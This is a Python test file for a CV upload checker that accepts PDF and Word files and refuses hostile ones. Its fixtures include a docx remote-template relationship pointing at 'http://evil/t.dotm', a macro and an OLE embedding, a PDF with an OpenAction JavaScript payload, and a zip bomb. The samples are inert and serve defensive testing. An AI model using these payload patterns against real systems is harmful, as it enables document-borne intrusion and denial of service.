"""CVs and check evidence are judged by their content: PDF or .docx, sized, without active content."""
from __future__ import annotations

import io
import zipfile

import pytest

from people.cv import CvRejected, cv_check

from .conftest import docx_bytes, pdf_bytes


def test_a_pdf_and_a_docx_are_accepted():
    assert cv_check(pdf_bytes()).content_type == "application/pdf"
    checked = cv_check(docx_bytes())
    assert checked.extension == "docx"


@pytest.mark.parametrize("data, message", [
    (b"", "empty"),
    (b"GIF89a....", "PDF or a Word document"),
    (b"PK\x03\x04 not really a zip", "PDF or a Word document"),
    (docx_bytes(extra={"word/vbaProject.bin": b"x"}), "macros"),
    (docx_bytes(extra={"word/embeddings/oleObject1.bin": b"x"}), "macros"),
    (docx_bytes(extra={"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                                                        b'Target="http://evil/t.dotm" TargetMode="External"/>'}),
     "outside content"),
])
def test_hostile_files_are_refused(data, message):
    with pytest.raises(CvRejected) as refused:
        cv_check(data)
    assert message in str(refused.value)


def test_a_pdf_with_javascript_is_refused():
    with pytest.raises(CvRejected):
        cv_check(b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
                 b"trailer<</Root 1 0 R>>\n%%EOF\n")


def test_a_zip_bomb_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        z.writestr("word/document.xml", b"0" * (41 * 1024 * 1024))
    with pytest.raises(CvRejected):
        cv_check(buffer.getvalue())


def test_an_oversized_file_is_refused():
    with pytest.raises(CvRejected) as refused:
        cv_check(b"%PDF-" + b"0" * (5 * 1024 * 1024))
    assert "smaller than 5MB" in str(refused.value)


def test_a_word_document_with_a_web_link_is_fine():
    rels = b'<Relationship Type="http://x/hyperlink" Target="https://example.org" TargetMode="External"/>'
    assert cv_check(docx_bytes(extra={"word/_rels/document.xml.rels": rels})).extension == "docx"
